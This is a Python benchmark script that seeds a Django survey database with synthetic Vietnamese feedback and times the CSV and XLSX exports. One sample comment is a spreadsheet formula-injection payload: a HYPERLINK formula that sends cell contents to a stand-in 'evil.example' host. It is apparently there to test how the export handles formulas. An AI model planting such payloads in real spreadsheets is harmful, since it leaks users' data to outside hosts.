"""Export benchmark: N SIPAS responses (about 26 answers each) out to CSV and XLSX.

Uses its own database (never the development one): SQLite under HAILONG_VAR_DIR, or
PostgreSQL through DATABASE_URL.

    export HAILONG_VAR_DIR=/tmp/hl-bench          # SQLite; or DATABASE_URL=postgres://…
    .venv/bin/python bench/export_bench.py generate 100000
    .venv/bin/python bench/export_bench.py measure csv     # one format per run: clean peak RSS
    .venv/bin/python bench/export_bench.py measure xlsx
    .venv/bin/python bench/export_bench.py job xlsx        # the background job instead

`measure` goes through the real view (test client, signed in as the secretary) with the
background threshold raised above N, so the whole export streams; it prints the time to the
first byte, the total time, the size and the peak resident memory of the process.
"""

from __future__ import annotations

import os
import random
import resource
import sys
import time
from datetime import datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings.dev")
os.environ.setdefault("ALLOWED_HOSTS", "testserver")
os.environ.setdefault("HAILONG_EXPORT_BACKGROUND_ROWS", str(10**9))

import django

django.setup()

from django.conf import settings  # noqa: E402

settings.DEBUG = False  # no query log growing with the export

COMMENTS = [
    "Cán bộ hướng dẫn tận tình, dễ hiểu.",
    "Phải chờ lâu, nên bố trí thêm người tiếp nhận vào buổi sáng.",
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "",
    "",
]


def peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


def generate(count: int) -> None:
    from django.core.management import call_command

    from hailong.core.periods import LOCAL_TZ
    from hailong.organisation.models import Role, Service, ServiceField, Staff, Unit
    from hailong.organisation.services import unit_save
    from hailong.surveys.models import QuestionnaireVersion
    from hailong.surveys.services.responses import Submission, responses_store

    call_command("migrate", verbosity=0)
    if Unit.objects.filter(code="BENCH").exists():
        sys.exit("already generated (drop the database to start again)")
    root = unit_save(unit=Unit(code="BENCH", name="Tỉnh Đo đạc", kind="province"), actor=None)
    units = [
        unit_save(unit=Unit(code=f"BU{n}", name=f"Phòng {n}", parent=root), actor=None)
        for n in range(8)
    ]
    field = ServiceField.objects.create(name="Hộ tịch", code="bench-ho-tich")
    services = [
        Service.objects.create(code=f"9.{n:06d}", name=f"Thủ tục {n}", field=field)
        for n in range(20)
    ]
    person = Staff(username="bench", full_name="Thư Ký", role=Role.SECRETARY)
    person.set_unusable_password()
    person.save()
    person.units.set([root])
    sipas = QuestionnaireVersion.objects.get(questionnaire__code="sipas", number=1)
    rng = random.Random(2026)
    start = datetime(2025, 1, 1, 8, tzinfo=LOCAL_TZ)
    batch: list[Submission] = []
    stored = 0
    for n in range(count):
        answers = {
            f"{e}{i}": str(rng.choice("123455440"))
            for e, k in (("TC", 4), ("TT", 4), ("CC", 5), ("KQ", 3), ("PA", 3))
            for i in range(1, k + 1)
        }
        answers["HL"] = str(rng.randint(1, 5))
        answers["MM"] = rng.sample(["TC", "TT", "CC", "KQ", "PA"], k=2)
        answers["YK"] = "Ý kiến số " + str(n)
        answers["TUOI"] = rng.choice("12345")
        answers["GIOI"] = rng.choice(["NAM", "NU"])
        answers["NGHE"] = rng.choice(["CBCC", "DN", "NONG"])
        batch.append(
            Submission(
                version=sipas,
                unit=rng.choice(units),
                service=rng.choice(services),
                channel=rng.choice(["web", "paper", "kiosk"]),
                answers=answers,
                comment=rng.choice(COMMENTS),
                dossier_code=f"HS-{n:07d}",
                submitted_at=start + timedelta(minutes=7 * n),
            )
        )
        if len(batch) == 5000:
            stored += responses_store(batch).stored_count
            batch = []
            print(f"{stored} stored", file=sys.stderr)
    stored += responses_store(batch).stored_count
    print(f"{stored} responses of {count} stored")


def measure(fmt: str) -> None:
    from django.test import Client
    from django.test.utils import setup_test_environment

    from hailong.organisation.models import Staff

    setup_test_environment()
    settings.DEBUG = False
    client = Client()
    client.force_login(Staff.objects.get(username="bench"))
    base = peak_mb()
    url = "/surveys/responses/export/" + ("?format=xlsx" if fmt == "xlsx" else "")
    started = time.perf_counter()
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    chunks = iter(response.streaming_content)
    size = len(next(chunks))
    first = time.perf_counter() - started
    for chunk in chunks:
        size += len(chunk)
    total = time.perf_counter() - started
    response.close()
    print(
        f"{fmt}: first byte {first:.2f} s, total {total:.1f} s, {size / 1e6:.1f} MB, "
        f"peak RSS {peak_mb():.0f} MB (after start-up {base:.0f} MB)"
    )


def job(fmt: str) -> None:
    from hailong.core.jobs import run_pending_jobs
    from hailong.organisation.models import Staff
    from hailong.surveys.services.exports import response_export_start

    person = Staff.objects.get(username="bench")
    base = peak_mb()
    started = time.perf_counter()
    export = response_export_start(query={}, file_format=fmt, actor=person)
    run_pending_jobs()
    export.refresh_from_db()
    total = time.perf_counter() - started
    print(
        f"{fmt} job: {export.job.status}, {export.rows} rows, total {total:.1f} s, "
        f"{export.file.size / 1e6:.1f} MB, peak RSS {peak_mb():.0f} MB "
        f"(after start-up {base:.0f} MB)"
    )


if __name__ == "__main__":
    command = sys.argv[1] if len(sys.argv) > 1 else ""
    if command == "generate":
        generate(int(sys.argv[2]))
    elif command == "measure":
        measure(sys.argv[2])
    elif command == "job":
        job(sys.argv[2])
    else:
        sys.exit(__doc__)
